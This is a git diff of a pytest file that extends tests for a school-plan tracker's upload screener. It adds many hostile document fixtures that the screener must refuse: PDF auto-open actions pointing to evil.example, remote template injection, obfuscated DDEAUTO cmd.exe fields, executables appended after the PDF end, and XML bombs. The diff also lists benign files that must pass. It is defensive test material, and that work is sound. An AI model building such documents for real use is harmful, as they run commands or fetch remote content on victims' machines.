@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import random
 import resource
 import subprocess
 import sys
@@ -11,19 +12,16 @@ import pytest
 
 from tests.pictures import png
 from tests.reading import attacks
-from tests.reading.attacks import LAUGHS, one_page, pdf, stream, word, workbook
+from tests.reading.attacks import LAUGHS, field, inner, one_page, pdf, relation, stream, word, workbook
 from tracker.config import ROOT
 from tracker.errors import Refused
 from tracker.reading import apart
 from tracker.reading.school_plans import read_school_plan
 from tracker.reading.screening import screen
 
+URI = b"<< /S /URI /URI (https://evil.example/) >>"
 JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
-TEMPLATE = (
-    '<Relationships xmlns="x"><Relationship Id="r9" TargetMode="External" Target="{}"'
-    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
-)
-
+TEMPLATE = attacks.relation("attachedTemplate", "{}")
 TYPES_WITH_MACROS = attacks.CONTENT_TYPES.replace("document.main", "document.macroEnabled.main")
 
 PDFS = {
@@ -49,6 +47,35 @@ PDFS = {
         one_page(b"/OpenAction << /S /SubmitForm /F (http://there.example/) >>"),
         "sends what is typed",
     ),
+    "an address on opening": (one_page(b"/OpenAction " + URI), "opens something elsewhere by itself"),
+    "an address on a page": (one_page(b"", b"/AA << /O 4 0 R >>", URI), "opens something elsewhere by itself"),
+    "an address on closing": (one_page(b"/AA 4 0 R", b"", b"<< /WC 5 0 R >>", URI), "opens something elsewhere"),
+    "an address after a page": (
+        one_page(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>", URI),
+        "opens something elsewhere by itself",
+    ),
+    "an address by way of others": (
+        one_page(b"/OpenAction 4 0 R", b"", b"<< /S 5 0 R /URI (//evil.example) >>", b"/U#52I"),
+        "opens something elsewhere by itself",
+    ),
+    "a file of another machine": (
+        one_page(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >>"),
+        "leads into another file",
+    ),
+    "a file in a file": (
+        one_page(b"/OpenAction << /S /GoToE /F (//evil.example/x) /D [0 /Fit] >>"),
+        "leads into another file",
+    ),
+    "another file at a click": (
+        one_page(b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (//evil.example/x) >> >>]"),
+        "leads into another file",
+    ),
+    "an archive behind it": (one_page() + attacks.archive({"a.exe": "MZ"}), "something behind its end"),
+    "an archive whose last words are those of a PDF": (
+        one_page() + attacks.archive({"a.exe": "MZ"})[:-2] + b"\x17\0\nstartxref\n123456\n%%EOF\n",
+        "something behind its end",
+    ),
+    "a page behind it": (one_page() + b"\n<script>alert(1)</script>", "something behind its end"),
     "100,000 pages": (attacks.many_pages(100_000), "has 100,000 pages, and 2,000 is the most"),
     "a page of a mile": (one_page(box=b"0 0 4600000 842"), "more than five metres, page 1"),
     "a page that unpacks": (attacks.packed_page(400), "unpacks to far more"),
@@ -82,6 +109,86 @@ DOCUMENTS = {
         word(word___rels__settings_xml_rels=TEMPLATE.format("https://there.example/t.dotm")),
         "fetches a part of itself",
     ),
+    "a template of another machine": (
+        word(word___rels__settings_xml_rels=TEMPLATE.format("file://evil/t.dotm")),
+        "fetches a part of itself",
+    ),
+    "a template of a share": (
+        word(word___rels__settings_xml_rels=TEMPLATE.format("\\\\evil\\share\\t.dotm")),
+        "fetches a part of itself",
+    ),
+    "a template in single quotes": (
+        word(word___rels__settings_xml_rels=TEMPLATE.format("http://evil.example/t.dotm").replace('"', "'")),
+        "fetches a part of itself",
+    ),
+    "a template spelt in numbers": (
+        word(word___rels__settings_xml_rels=TEMPLATE.format("&#104;ttp://evil.example/t.dotm")),
+        "fetches a part of itself",
+    ),
+    "a template with spaces": (
+        word(word___rels__settings_xml_rels=TEMPLATE.format("http://evil.example/t.dotm").replace("=", " = ")),
+        "fetches a part of itself",
+    ),
+    "a template in UTF-16": (
+        word(word___rels__settings_xml_rels=TEMPLATE.format("http://evil.example/t.dotm").encode("utf-16")),
+        "fetches a part of itself",
+    ),
+    "a template that is said to be in it": (
+        word(word___rels__settings_xml_rels=relation("attachedTemplate", "//evil.example/t.dotm", "Internal")),
+        "fetches a part of itself",
+    ),
+    "a template of another folder": (
+        word(word___rels__settings_xml_rels=TEMPLATE.format("file:///S:\\Templates\\Plan.dotx")),
+        "fetches a part of itself",
+    ),
+    **{
+        f"its {kind} elsewhere": (
+            word(word___rels__document_xml_rels=relation(kind, "file://evil/x")),
+            "fetches a part of itself",
+        )
+        for kind in ("frame", "subDocument", "oleObject", "image", "externalLinkPath", "aFChunk", "mailMergeSource")
+    },
+    "relations that no program can read": (
+        word(word___rels__settings_xml_rels="<Relationships><Relationship"),
+        "damaged",
+    ),
+    "a command in two runs": (word(field("D", "DEAUTO c:\\cmd.exe")), "gives commands"),
+    "a command in two runs of no field": (
+        word("<w:p><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DEAUTO c</w:instrText></w:r></w:p>"),
+        "gives commands",
+    ),
+    "a command whose field has no end": (
+        word(field("D", "DEAUTO c").replace("separate", "x").replace('"end"', '"x"')),
+        "gives commands",
+    ),
+    "a command in a simple field": (word("<w:p><w:fldSimple w:instr = ' dde&#65;UTO c'/></w:p>"), "gives commands"),
+    "a command that another field spells": (
+        word(field(inner(field("QUOTE 68 68 69 65 85 84 79")), " c:\\cmd.exe")),
+        "gives commands",
+    ),
+    "a command in UTF-16": (
+        word(word__header1_xml=attacks.WORDS.format(field("DDEAUTO c")).encode("utf-16")),
+        "gives commands",
+    ),
+    "a command of a workbook in UTF-16": (
+        workbook(xl__externalLinks__externalLink1_xml="<x:e><x:ddeLink ddeService='cmd'/></x:e>".encode("utf-16")),
+        "gives commands",
+    ),
+    "macros by their type in UTF-16": (word(types=TYPES_WITH_MACROS.encode("utf-16")), "carries macros"),
+    "a picture of another machine": (
+        word(field("INCLUDE", 'PICTURE "http://evil.example/x.png"')),
+        "fetches a part of itself",
+    ),
+    "a text of a share": (word(field('INCLUDETEXT "\\\\\\\\evil\\\\x.docx"')), "fetches a part of itself"),
+    "a text whose place another field says": (
+        word(field("INCLUDETEXT ", inner(field('QUOTE "http://evil.example/x"')))),
+        "fetches a part of itself",
+    ),
+    "150 MB of one letter": (attacks.xml_of_one_letter(150), "unpacks to far more"),
+    "150 MB of one letter beside a large picture": (
+        word(word__styles_xml=b" " * (150 << 20), word__media__image1_png=random.Random(1).randbytes(4 << 20)),
+        "unpacks to far more",
+    ),
     "a command": (word("<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>"), "gives commands"),
     "a billion laughs": (word("<w:p>&j;</w:p>", LAUGHS), "defines words of its own"),
     "a billion laughs in UTF-16": (
@@ -110,21 +217,42 @@ def test_an_office_document_that_carries_something_is_refused(content: bytes, se
         screen(content, "plan.docx")
 
 
-@pytest.mark.parametrize(
-    "content",
-    [
-        one_page(b"/OpenAction [3 0 R /Fit]"),
-        one_page(b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example) >> >>]"),
-        attacks.packed_page(100),
-        word("<w:p><w:r><w:t>=cmd, DDEAUTO</w:t><w:instrText>PAGE</w:instrText></w:r></w:p>"),
-        word(word__embeddings__Sheet1_xlsx=workbook(), word__media__image1_png=png()),
-        word(word___rels__settings_xml_rels=TEMPLATE.format("file:///S:\\Templates\\Plan.dotx")),
-        workbook(xl__printerSettings__printerSettings1_bin=b"\0\1"),
-        b"Eight of ten could explain it.",
-        attacks.archive({"notes.txt": "no document"}),
-    ],
-    ids=["opens at a page", "link", "large", "words", "chart", "own template", "printer", "text", "archive"],
-)
+ORDINARY = {
+    "opens at a page": one_page(b"/OpenAction [3 0 R /Fit]"),
+    "opens at a page by an action": one_page(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /XYZ 0 842 0] >>"),
+    "link": one_page(b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A " + URI + b" >>]"),
+    "opens at a page with a link": one_page(
+        b"/OpenAction [3 0 R /Fit] /AA << /WP << /S /GoTo /D [3 0 R /Fit] >> >>",
+        b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A " + URI + b" >>]",
+    ),
+    "large": attacks.packed_page(100),
+    "saved twice": one_page() + one_page()[9:],
+    "ends in blank lines": one_page() + b"\r\n\r\n" + bytes(512),
+    "words": word("<w:p><w:r><w:t>=cmd, DDEAUTO</w:t><w:instrText>PAGE</w:instrText></w:r></w:p>"),
+    "fields": word(
+        field(" TOC \\o ", '"1-3" \\h', result=inner(field("PAGEREF _Toc1 \\h")))
+        + field('HYPERLINK "https://school.example"')
+        + field('INCLUDEPICTURE "C:\\\\Pictures\\\\crest.png" \\* MERGEFORMAT')
+        + "<w:p><w:fldSimple w:instr=' PAGE '/></w:p>"
+    ),
+    "chart": word(word__embeddings__Sheet1_xlsx=workbook(), word__media__image1_png=png()),
+    "link of a document": word(word___rels__document_xml_rels=relation("hyperlink", "https://school.example/policy")),
+    "old drawing": workbook(xl__drawings__vmlDrawing1_vml="<xml><div>One<br>two</div></xml>"),
+    "empty part": word(customXml__item1_xml=""),
+    "20,000 equal rows": workbook(
+        "".join(
+            f'<row r="{row}">' + "".join(f'<c r="{column}{row}"><v>1</v></c>' for column in "ABCDEFGHIJ") + "</row>"
+            for row in range(1, 20_001)
+        )
+    ),
+    "5,000 equal paragraphs": word("<w:p><w:r><w:t>The governors looked at this.</w:t></w:r></w:p>" * 5000),
+    "printer": workbook(xl__printerSettings__printerSettings1_bin=b"\0\1"),
+    "text": b"Eight of ten could explain it.",
+    "archive": attacks.archive({"notes.txt": "no document"}),
+}
+
+
+@pytest.mark.parametrize("content", ORDINARY.values(), ids=ORDINARY.keys())
 def test_what_schools_write_every_day_passes(content: bytes) -> None:
     screen(content, "paper")
 
